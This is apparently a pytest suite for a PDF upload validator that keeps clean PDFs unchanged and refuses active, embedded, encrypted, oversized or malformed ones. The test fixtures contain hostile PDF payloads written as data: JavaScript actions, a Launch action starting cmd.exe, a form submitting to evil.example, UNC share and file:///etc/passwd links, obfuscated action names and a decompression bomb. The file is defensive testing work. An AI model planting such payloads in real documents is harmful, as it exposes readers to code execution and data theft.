"""PDFs that people hand in: kept as they came, and only if nothing in them acts."""

import logging
import tracemalloc
from io import BytesIO
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as effort
from hypothesis import strategies as st
from pyhanko.pdf_utils import generic, writer
from pyhanko.pdf_utils.crypt import StandardSecurityHandler
from pyhanko.pdf_utils.reader import PdfFileReader

from chatbo.foundation.uploads import Pdf, UploadError, Wrong, accept_pdf
from chatbo.foundation.uploads.pdfs import LARGEST, MOST_OBJECTS, MOST_PAGES, MOST_REVISIONS

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>"
DRAWING = b"<< /Length 20 >>\nstream\n0 0 m 100 100 l S   \nendstream"


@pytest.fixture(autouse=True)
def quiet(caplog: pytest.LogCaptureFixture) -> None:
    """pyHanko logs every odd file at length."""
    caplog.set_level(logging.CRITICAL, logger="pyhanko")


def pdf(
    *more: bytes, root: bytes = b"", page: bytes = b"", trailer: bytes = b"", pages: int = 1
) -> bytes:
    """A PDF with a page, and ``more`` objects from number 5 on."""
    kids = b" ".join([b"3 0 R"] * pages)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        PAGE % page,
        DRAWING,
        *more,
    ]
    return assembled(objects, trailer)


def assembled(objects: list[bytes], trailer: bytes = b"") -> bytes:
    written = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    written += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return bytes(written + b"startxref\n%d\n%%%%EOF\n" % start)


class AsWritten(generic.PdfObject):
    """A value as it stands: to read a long one and write it again takes a minute."""

    def __init__(self, value: bytes) -> None:
        self.value = value

    def write_to_stream(self, stream: Any, handler: Any = None, container_ref: Any = None) -> None:
        stream.write(self.value)


def packed(*values: str) -> bytes:
    """A PDF whose objects lie in a packed stream, where no search through the bytes finds them."""
    file = writer.PdfFileWriter(stream_xrefs=True)
    content = file.add_object(generic.StreamObject(stream_data=b"0 0 m"))
    page = writer.PageObject(contents=content, media_box=(0, 0, 100, 100))
    file.insert_page(page)
    packing = file.prepare_object_stream()
    for value in values:
        file.add_object(AsWritten(value.encode()), obj_stream=packing)
    written = BytesIO()
    file.write(written)
    assert b"JavaScript" not in written.getvalue()
    return written.getvalue()


def encrypted() -> bytes:
    file = writer.PdfFileWriter(stream_xrefs=False)
    content = file.add_object(generic.StreamObject(stream_data=b"0 0 m"))
    file.insert_page(writer.PageObject(contents=content, media_box=(0, 0, 100, 100)))
    handler = StandardSecurityHandler.build_from_pw("", encrypt_metadata=True)
    file.security_handler = handler
    file._encrypt = file.add_object(handler.as_pdf_object())
    file.set_info(None)
    written = BytesIO()
    file.write(written)
    return written.getvalue()


def revised(first: bytes, times: int) -> bytes:
    """The same file, changed so many times by what is hung on behind its end."""
    written = bytearray(first)
    for _ in range(times):
        before = PdfFileReader(BytesIO(bytes(written))).last_startxref
        place = len(written)
        written += b"4 0 obj\n%s\nendobj\n" % DRAWING
        start = len(written)
        written += b"xref\n4 1\n%010d 00000 n \n" % place
        written += b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\n" % before
        written += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(written)


def accept(content: bytes) -> Pdf:
    return accept_pdf(BytesIO(content))


def refusal(content: bytes) -> Wrong:
    with pytest.raises(UploadError) as caught:
        accept(content)
    return caught.value.wrong


GOOD = {
    "a scanned page": pdf(),
    "two pages": pdf(PAGE % b""),
    "packed": packed("<< /S /P >>"),
    "a link to a page": pdf(
        page=b"/Annots [<< /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >> >>]"
    ),
    "a link to a website": pdf(
        page=b"/Annots [<< /A << /S /URI /URI (https://chatbo.example) >> >>]"
    ),
    "a link to an address": pdf(page=b"/Annots [<< /A << /S /URI /URI (mailto:a@b.example) >> >>]"),
    "opened at a page": pdf(root=b"/OpenAction [3 0 R /Fit]"),
    "opened at a page by an action": pdf(root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "changed once": revised(pdf(), 1),
    "a line break at the end": pdf() + b"\r\n",
}


@pytest.mark.parametrize("content", GOOD.values(), ids=GOOD)
def test_a_scanned_contract_is_kept_as_it_came(content: bytes) -> None:
    kept = accept(content)
    assert kept.content == content
    assert kept.pages in {1, 2}
    assert len(kept.sha256) == 64


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE = {
    "a script on opening": pdf(SCRIPT, root=b"/OpenAction 5 0 R"),
    "a script on opening, on the spot": pdf(root=b"/OpenAction " + SCRIPT),
    "a script among names": pdf(SCRIPT, root=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"),
    "a script on a click": pdf(page=b"/Annots [<< /Subtype /Link /A " + SCRIPT + b" >>]"),
    "a script on leaving a page": pdf(page=b"/AA << /C " + SCRIPT + b" >>"),
    "a script in a field": pdf(page=b"/Annots [<< /Subtype /Widget /AA << /K 5 0 R >> >>]"),
    "a script after another action": pdf(
        SCRIPT, page=b"/Annots [<< /A << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >> >>]"
    ),
    "a website after a page": pdf(
        b"<< /S /URI /URI (https://a.example) >>",
        root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
    ),
    "a script that nothing points at": pdf(SCRIPT),
    "a script with an escaped name": pdf(b"<< /S /J#61vaScript >>"),
    "a script's key with an escaped name": pdf(b"<< /J#53 (app.alert\\(1\\)) >>"),
    "a script's name in another object": pdf(b"<< /S 6 0 R >>", b"/JavaScript"),
    "a script in a packed stream": packed("<< /S /JavaScript /JS (app.alert) >>"),
    "a deep script in a packed stream": packed("[[[<< /A << /B << /S /JavaScript >> >> >>]]]"),
    "a program to start": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "a packed program to start": packed("<< /S /Launch /F (cmd.exe) >>"),
    "a form that sends": pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"),
    "data from elsewhere": pdf(b"<< /S /ImportData /F (a.fdf) >>"),
    "another file": pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>"),
    "a file within": pdf(b"<< /S /GoToE /T << /R /C >> >>"),
    "a website on opening": pdf(root=b"/OpenAction << /S /URI /URI (https://evil.example) >>"),
    "a link to a script": pdf(page=b"/Annots [<< /A << /S /URI /URI (javascript:x) >> >>]"),
    "a link to a file": pdf(page=b"/Annots [<< /A << /S /URI /URI (file:///etc/passwd) >> >>]"),
    "a link to a share": pdf(page=b"/Annots [<< /A << /S /URI /URI (\\\\\\\\evil) >> >>]"),
    "a link in hexadecimals": pdf(page=b"/Annots [<< /A << /S /URI /URI <66696c65> >> >>]"),
    "a link that is a number": pdf(page=b"/Annots [<< /A << /S /URI /URI 7 >> >>]"),
    "an XFA form": pdf(root=b"/AcroForm << /XFA [(a) 4 0 R] >>"),
    "a film": pdf(page=b"/Annots [<< /Subtype /Movie >>]"),
    "a sound": pdf(b"<< /S /Sound >>"),
    "a screen": pdf(page=b"/Annots [<< /Subtype /Screen >>]"),
    "a body in space": pdf(page=b"/Annots [<< /Subtype /3D >>]"),
    "rich media": pdf(page=b"/Annots [<< /Subtype /RichMedia >>]"),
    "PostScript": pdf(b"<< /Subtype /PS /Length 1 >>\nstream\nx\nendstream"),
    "a stream that lies elsewhere": pdf(b"<< /F (a) /Length 0 >>\nstream\n\nendstream"),
}


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
def test_what_acts_is_refused(content: bytes) -> None:
    assert refusal(content) is Wrong.ACTIVE


ATTACHMENTS = {
    "files": pdf(root=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "a file": pdf(b"<< /Type /Filespec /EF << /F 4 0 R >> >>"),
    "an embedded stream": pdf(b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"),
    "a paper clip": pdf(page=b"/Annots [<< /Subtype /FileAttachment >>]"),
    "associated files": pdf(root=b"/AF []"),
    "a portfolio": pdf(root=b"/Collection << >>"),
    "a packed file": packed("<< /Type /Filespec /EF << >> >>"),
    "rich media": pdf(b"<< /RichMediaContent << >> >>"),
}


@pytest.mark.parametrize("content", ATTACHMENTS.values(), ids=ATTACHMENTS)
def test_what_holds_other_files_is_refused(content: bytes) -> None:
    assert refusal(content) is Wrong.ATTACHMENT


REFUSED = {
    "nothing": (b"", Wrong.EMPTY),
    "one byte too many": (pdf().ljust(LARGEST + 1, b"\n"), Wrong.TOO_LARGE),
    "text": (b"no PDF at all", Wrong.TYPE),
    "HTML": (b"<!doctype html><script>alert(1)</script>", Wrong.TYPE),
    "a page before the PDF": (b"<script>alert(1)</script>" + pdf(), Wrong.TYPE),
    "a line before the PDF": (b"\n" + pdf(), Wrong.TYPE),
    "only its first line": (b"%PDF-1.7\n", Wrong.DAMAGED),
    "a page behind its end": (pdf() + b"<script>alert(1)</script>", Wrong.DAMAGED),
    "an archive behind its end": (pdf() + b"PK\x03\x04", Wrong.DAMAGED),
    "half of it": (pdf()[:200], Wrong.DAMAGED),
    "no pages": (
        assembled([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Kids [] >>"]),
        Wrong.DAMAGED,
    ),
    "no catalog": (assembled([b"<< >>"]), Wrong.DAMAGED),
    "a root that is missing": (pdf(trailer=b"/Root 99 0 R"), Wrong.DAMAGED),
    "an object that points at nothing": (pdf(b"99 0 R"), Wrong.DAMAGED),
    "a table that lies": (pdf().replace(b"0000000015", b"0000000016"), Wrong.DAMAGED),
    "an object of its own kind": (pdf(b"<< " * 3_000 + b">> " * 3_000), Wrong.DAMAGED),
    "arrays without end": (pdf(b"[" * 50_000), Wrong.DAMAGED),
    "encrypted": (encrypted(), Wrong.ENCRYPTED),
    "too many pages": (pdf(*[PAGE % b""] * MOST_PAGES), Wrong.TOO_COMPLEX),
    "too many parts": (pdf(*[b"0"] * MOST_OBJECTS), Wrong.TOO_COMPLEX),
    "too many versions": (revised(pdf(), MOST_REVISIONS), Wrong.TOO_COMPLEX),
}


@pytest.mark.parametrize(("content", "wrong"), REFUSED.values(), ids=REFUSED)
def test_what_is_no_sound_pdf_of_reasonable_size_is_refused(content: bytes, wrong: Wrong) -> None:
    assert refusal(content) is wrong


def test_an_object_stream_that_unpacks_without_end_is_refused() -> None:
    content = packed(f"({'x' * 60_000_000})")
    assert len(content) < 1_000_000
    tracemalloc.start()
    try:
        assert refusal(content) is Wrong.DAMAGED
        assert tracemalloc.get_traced_memory()[1] < 30_000_000
    finally:
        tracemalloc.stop()


@effort(
    deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
@given(st.integers(0, 800), st.binary(min_size=1, max_size=30))
def test_a_damaged_file_is_accepted_or_refused_and_never_an_error(at: int, junk: bytes) -> None:
    for whole in (pdf(SCRIPT, root=b"/OpenAction 5 0 R"), packed("<< /S /JavaScript >>")):
        for content in (
            whole[:at] + junk + whole[at:],
            whole[:at] + junk + whole[at + len(junk) :],
        ):
            try:
                accept(content)
            except UploadError:
                continue
            # Taken only where the junk has fallen into what made it act.
            assert content.count(b"JavaScript") == 0


@effort(
    deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
@given(st.binary(max_size=500))
def test_whatever_comes_is_a_pdf_or_refused(junk: bytes) -> None:
    for content in (junk, b"%PDF-1.7\n" + junk + b"\n%%EOF"):
        with pytest.raises(UploadError):
            accept(content)
